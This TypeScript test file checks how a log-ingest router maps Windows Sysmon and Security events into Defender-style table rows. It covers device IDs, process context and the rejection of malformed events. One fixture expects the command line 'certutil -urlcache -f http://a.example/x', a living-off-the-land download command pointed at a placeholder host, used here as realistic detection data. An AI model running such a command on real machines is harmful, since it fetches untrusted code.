import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { loadCatalog } from '../../src/catalog/load.ts';
import { WINDOWS_MAPPINGS } from '../../src/ingest/mappings/index.ts';
import { createRouting, type Router } from '../../src/ingest/route.ts';
import type { Outcome } from '../../src/ingest/row.ts';
import { CASES, type Case, type Columns, type Data, SELF, SHA1, SYSMON } from './windows-cases.ts';

const routing = createRouting(loadCatalog());

function flat(channel: string, id: number, data: Data): object {
  return {
    '@timestamp': '2020-08-07T15:08:25.000Z',
    Channel: channel,
    EventID: id,
    Hostname: 'PC1.lab.example',
    RecordNumber: 4711,
    UserID: 'S-1-5-21-1-2-3-1001',
    ExecutionProcessID: 5852,
    Keywords: -9214364837600034816n.toString(),
    ...(channel === SYSMON ? { UtcTime: '2020-08-07 15:08:21.848' } : {}),
    ...data,
  };
}

/** The same event as the JSON of its XML, in two of the spellings that converters use. */
function nested(channel: string, id: number, data: Data, list: boolean): object {
  const all = { ...(channel === SYSMON ? { UtcTime: '2020-08-07 15:08:21.848' } : {}), ...data };
  const attributes = list ? '#attributes' : '@attributes';
  return {
    Event: {
      System: {
        Provider: {
          [attributes]: { Name: channel === 'Security' ? 'Microsoft-Windows-Security-Auditing' : 'x' },
        },
        EventID: list ? { '#text': id, '#attributes': { Qualifiers: 0 } } : id,
        TimeCreated: { [attributes]: { SystemTime: '2020-08-07T15:08:25.0000000Z' } },
        EventRecordID: 4711,
        Execution: { [attributes]: { ProcessID: 5852, ThreadID: 1 } },
        Channel: channel,
        Computer: 'PC1.lab.example',
        Security: { [attributes]: { UserID: 'S-1-5-21-1-2-3-1001' } },
      },
      EventData: list
        ? {
            Data: Object.entries(all).map(([Name, value]) => ({ '#attributes': { Name }, '#text': value })),
          }
        : all,
    },
  };
}

function send(router: Router, event: object): Outcome[] {
  const outcomes: Outcome[] = [];
  const text = JSON.stringify(event);
  router.value(JSON.parse(text), text, (outcome) => outcomes.push(outcome));
  return outcomes;
}

/** The filled columns of the row that the last event becomes. */
function row(events: readonly object[]): { readonly table: string; readonly columns: Columns } {
  const router = routing({ format: 'auto', table: undefined, shiftMs: 0 });
  let last: Outcome | undefined;
  for (const event of events) last = send(router, event)[0];
  if (last?.kind !== 'row') throw new Error(`no row: ${JSON.stringify(last)}`);
  const { layout, cells } = last.row;
  const values = JSON.parse(`[${cells}]`) as unknown[];
  expect(values).toHaveLength(layout.columns.length);
  const filled = layout.columns.map((name, i) => [name, values[i]] as const);
  return {
    table: layout.table.name,
    columns: Object.fromEntries(filled.filter(([, value]) => value !== '' && value !== null)),
  };
}

describe('Windows events', () => {
  for (const { channel, id, data, table, columns, more } of CASES) {
    it(`${channel} ${id} becomes ${String(columns['ActionType'])}`, () => {
      const forms = [
        flat(channel, id, data),
        nested(channel, id, data, false),
        nested(channel, id, data, true),
      ];
      for (const event of forms) {
        const made = row([event]);
        expect(made.table).toBe(table);
        expect(made.columns).toMatchObject({
          ...columns,
          DeviceName: 'pc1.lab.example',
          DeviceId: createHash('sha1').update('pc1.lab.example').digest('hex'),
          ReportId: 4711,
        });
        const rest = (made.columns['AdditionalFields'] ?? made.columns['_extra'] ?? '{}') as string;
        expect(JSON.parse(rest)).toMatchObject(more ?? {});
      }
    });
  }

  it('covers every mapping', () => {
    const sources = { [SYSMON]: 'Sysmon', Security: 'Security' } as Record<string, string>;
    const tried = new Set(CASES.map(({ channel, id }) => `${sources[channel] ?? 'PowerShell'} ${id}`));
    expect(
      WINDOWS_MAPPINGS.map(({ source, id }) => `${source} ${id}`).filter((name) => !tried.has(name)),
    ).toEqual([]);
  });

  it('keeps the process of a start in mind for the rest of the file', () => {
    const start = CASES[0] as Case;
    const made = row([
      flat(SYSMON, 1, start.data),
      flat('Security', 4624, { TargetDomainName: 'LAB', TargetUserName: 'Ann', TargetUserSid: 'S-1-5-21-7' }),
      flat(SYSMON, 22, { ...SELF, QueryName: 'a.example' }),
    ]);
    expect(made.columns).toMatchObject({
      InitiatingProcessCommandLine: 'certutil -urlcache -f http://a.example/x',
      InitiatingProcessSHA1: SHA1,
      InitiatingProcessCreationTime: '2020-08-07 15:08:21.8480000',
      InitiatingProcessParentFileName: 'explorer.exe',
      InitiatingProcessParentId: 1516,
      InitiatingProcessAccountSid: 'S-1-5-21-7',
    });
  });

  it('keeps events of other kinds whole, without what only says how they travelled', () => {
    const made = row([
      flat('System', 7036, { param1: 'Spooler', param2: 'stopped', tags: 'x', Message: 'm' }),
    ]);
    expect(made.table).toBe('DeviceEvents');
    expect(made.columns['ActionType']).toBe('WindowsEvent');
    expect(JSON.parse(String(made.columns['AdditionalFields']))).toMatchObject({
      Channel: 'System',
      EventID: 7036,
      param1: 'Spooler',
      param2: 'stopped',
    });
    expect(String(made.columns['AdditionalFields'])).not.toMatch(/tags|Message/);
    const security = row([
      flat('Security', 4703, {
        ProcessId: '0x1f4',
        ProcessName: 'C:\\W\\svchost.exe',
        SubjectUserName: 'Ann',
      }),
    ]);
    expect(security.columns).toMatchObject({
      ActionType: 'WindowsEvent',
      InitiatingProcessId: 500,
      InitiatingProcessFileName: 'svchost.exe',
      InitiatingProcessAccountName: 'ann',
    });
  });

  it('rejects events without a host or a time', () => {
    const router = routing({ format: 'auto', table: undefined, shiftMs: 0 });
    expect(send(router, { ...flat('Security', 4624, {}), Hostname: '' })[0]?.kind).toBe('rejected');
    expect(send(router, { ...flat('Security', 4624, {}), '@timestamp': 'never' })[0]?.kind).toBe('rejected');
  });

  it('gives a device the same id in every spelling of its name', () => {
    const made = row([flat(SYSMON, 5, SELF)]);
    const upper = row([{ ...flat(SYSMON, 5, SELF), Hostname: 'PC1.LAB.EXAMPLE' }]);
    expect(upper.columns['DeviceId']).toBe(made.columns['DeviceId']);
  });
});
